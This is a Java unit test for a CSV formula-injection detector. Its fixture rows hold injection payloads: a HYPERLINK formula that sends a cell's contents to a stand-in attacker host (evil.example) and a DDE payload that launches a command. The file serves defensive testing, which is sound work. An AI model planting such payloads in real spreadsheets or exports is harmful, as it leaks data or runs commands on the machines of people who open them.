package io.foilint.detect.structure;

import static org.assertj.core.api.Assertions.assertThat;

import io.foilint.detect.Finding;
import io.foilint.detect.Severity;
import io.foilint.model.TableOrigin;
import io.foilint.model.Visibility;
import io.foilint.testing.Events;
import io.foilint.testing.Findings;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvInjectionDetectorTest {

  @Test
  void formulaLikeValuesInCsvAreReview() {
    Finding f =
        Findings.only(
            Events.events()
                .table(TableOrigin.CSV, "export.csv", "export.csv", Visibility.VISIBLE)
                .row("Name", "Balance", "Phone")
                .row("=HYPERLINK(\"http://evil.example/?q=\"&A3,\"Click\")", "-5", "+44 20 7946 0000")
                .row("@SUM(1+1)*cmd|' /C calc'!A0", "+1.5", "07700 900123")
                .row("\t=1+2", "-£5", "")
                .feed(new CsvInjectionDetector()));

    assertThat(f.rule()).isEqualTo("csv-injection");
    assertThat(f.severity()).isEqualTo(Severity.REVIEW);
    assertThat(f.message()).contains("3 values", "A2, A3, A4");
    Findings.assertNoneContain(List.of(f), "HYPERLINK", "evil", "calc");
  }

  @Test
  void formulaDecision() {
    assertThat(CsvInjectionDetector.isFormulaLike("=1+1")).isTrue();
    assertThat(CsvInjectionDetector.isFormulaLike("\r@x")).isTrue();
    assertThat(CsvInjectionDetector.isFormulaLike("-5")).isFalse();
    assertThat(CsvInjectionDetector.isFormulaLike("-1,234.50")).isFalse();
    assertThat(CsvInjectionDetector.isFormulaLike("+44 20 7946 0000")).isFalse();
    assertThat(CsvInjectionDetector.isFormulaLike("-£5")).isFalse();
    assertThat(CsvInjectionDetector.isFormulaLike("-")).isFalse();
    assertThat(CsvInjectionDetector.isFormulaLike("Smith")).isFalse();
  }

  @Test
  void sheetsAreNotCsv() {
    assertThat(Events.sheet("S").row("=1+1", "@x").feed(new CsvInjectionDetector())).isEmpty();
  }
}
